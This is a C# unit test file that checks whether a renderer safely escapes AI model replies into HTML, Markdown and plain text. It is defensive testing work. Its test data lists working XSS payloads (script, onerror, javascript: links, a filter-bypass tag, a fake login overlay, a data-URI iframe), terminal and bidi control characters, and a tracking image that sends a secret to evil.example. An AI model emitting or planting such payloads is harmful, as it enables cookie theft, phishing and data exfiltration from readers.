using Markdig;

namespace HybridAnswer.Tests.Rendering;

/// <summary>
/// Issue 23, "Also": HTML and script in model replies pass through <see cref="Answer.Text"/> verbatim, so hosts need a safe
/// rendering path. The hostile replies below go through each form; the Markdown form is proved by rendering it with Markdig.
/// </summary>
public sealed class AnswerRendererTests
{
    public static TheoryData<string> HostileReplies => new()
    {
        "<script>alert(1)</script> You have 30 days [1].",
        "<img src=x onerror=alert(document.cookie)> [1]",
        "<a href=\"javascript:alert(1)\">click</a> [1]",
        "\" onmouseover=\"alert(1)\" x=\"",
        "' onfocus='alert(1)' autofocus='",
        "[click here](javascript:alert(1)) [1]",
        "![tracker](http://evil.example/pixel.png?c=secret) [1]",
        "[ref]: javascript:alert(1)\n\nSee [ref].",
        "<javascript:alert(1)> and <http://evil.example>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Log in again</div>",
        "<!-- hidden --><iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "`code` **bold** _it_ # heading\n> quote\n- item\n1. item | table |",
        "Text\u001b[2J\u001b]0;owned\u0007 with \u0000 NUL, \u009b C1 and \u202Eevil\u202C bidi [1].",
        "<svg/onload=alert(1)>",
        "<scr<script>ipt>alert(1)</script>",
    };

    [Theory]
    [MemberData(nameof(HostileReplies))]
    public void ToHtml_HostileReply_NoTagAttributeOrEntitySurvives(string reply)
    {
        var html = AnswerRenderer.ToHtml(reply);

        // Only the <br> the renderer writes for line breaks is markup; everything else of the reply is text.
        var withoutBreaks = html.Replace("<br>\n", "\n", StringComparison.Ordinal);
        Assert.DoesNotContain('<', withoutBreaks);
        Assert.DoesNotContain('>', withoutBreaks);
        Assert.DoesNotContain('"', withoutBreaks);
        Assert.DoesNotContain('\'', withoutBreaks);
        Assert.DoesNotMatch("&(?!amp;|lt;|gt;|quot;|#39;)", withoutBreaks);
        Assert.Equal(AnswerRenderer.ToPlainText(reply), System.Net.WebUtility.HtmlDecode(withoutBreaks));
    }

    [Theory]
    [MemberData(nameof(HostileReplies))]
    public void ToMarkdown_HostileReply_RendersAsTextOnly(string reply)
    {
        var markdown = AnswerRenderer.ToMarkdown(reply);

        foreach (var pipeline in new[] { new MarkdownPipelineBuilder().Build(), new MarkdownPipelineBuilder().UseAdvancedExtensions().Build() })
        {
            var html = Markdown.ToHtml(markdown, pipeline);
            var bareUrl = reply.Contains("http://", StringComparison.Ordinal) && pipeline.Extensions.Count > 0;
            foreach (var tag in new[] { "<script", "<img", "<iframe", "<svg", "<div", "<code", "<strong", "<em", "<h1", "<blockquote", "<li", "<table" })
            {
                Assert.DoesNotContain(tag, html, StringComparison.OrdinalIgnoreCase);
            }

            // GFM's extended autolinks (advanced extensions) make a bare http:// address a link, as documented; never anything else.
            if (!bareUrl)
            {
                Assert.DoesNotContain("<a ", html, StringComparison.Ordinal);
            }
            else
            {
                Assert.All(System.Text.RegularExpressions.Regex.Matches(html, "href=\"([^\"]*)\"").Select(m => m.Groups[1].Value), href => Assert.StartsWith("http://", href, StringComparison.Ordinal));
            }

            // What the reader sees is the reply's text, letter for letter.
            var shown = System.Net.WebUtility.HtmlDecode(System.Text.RegularExpressions.Regex.Replace(html, "<[^>]*>", string.Empty));
            Assert.Equal(Letters(AnswerRenderer.ToPlainText(reply)), Letters(shown));
        }
    }

    [Fact]
    public void ToPlainText_ControlCharacters_RemovedLineBreaksAndTabsKept()
    {
        var text = AnswerRenderer.ToPlainText("a\u001b[31mred\u001b[0m\tb\r\nc\rd\u2028e\u0000f\u007f\u0085g\u009bh\u202Ei\u2066j\uD800k\U0001F600");

        Assert.Equal("a[31mred[0m\tb\nc\nd\ne" + "f\ng" + "hij" + "k\U0001F600", text);
    }

    [Fact]
    public void Renderers_CitationMarkers_StayPlainMarkers()
    {
        var answer = new Answer { Text = "You have 30 days [1], or 60 [1, 2].", Answered = true, Mode = AnswerMode.Rag, Timings = new AnswerTimings() };

        Assert.Equal("You have 30 days [1], or 60 [1, 2].", AnswerRenderer.ToPlainText(answer));
        Assert.Equal("You have 30 days [1], or 60 [1, 2].", AnswerRenderer.ToHtml(answer));
        Assert.Equal("<p>You have 30 days [1], or 60 [1, 2].</p>\n", Markdown.ToHtml(AnswerRenderer.ToMarkdown(answer)));
    }

    [Fact]
    public void Renderers_Null_ThrowArgumentNullExceptionNamingTheArgument()
    {
        Assert.Equal("text", Assert.Throws<ArgumentNullException>(() => AnswerRenderer.ToHtml((string)null!)).ParamName);
        Assert.Equal("answer", Assert.Throws<ArgumentNullException>(() => AnswerRenderer.ToMarkdown((Answer)null!)).ParamName);
        Assert.Equal("text", Assert.Throws<ArgumentNullException>(() => AnswerRenderer.ToPlainText((string)null!)).ParamName);
    }

    [Fact]
    public void ToHtml_StreamedDeltas_JoinToTheWholeTextsRendering()
    {
        const string reply = "<script>alert('x')</script> & \"30 days\" [1]\n<b>bold</b>";
        var deltas = Enumerable.Range(0, (reply.Length + 6) / 7).Select(i => reply.Substring(i * 7, Math.Min(7, reply.Length - (i * 7))));

        Assert.Equal(AnswerRenderer.ToHtml(reply), string.Concat(deltas.Select(AnswerRenderer.ToHtml)));
        Assert.Equal(AnswerRenderer.ToMarkdown(reply), string.Concat(deltas.Select(AnswerRenderer.ToMarkdown)));
    }

    private static string Letters(string text) => new(text.Where(char.IsLetterOrDigit).ToArray());
}
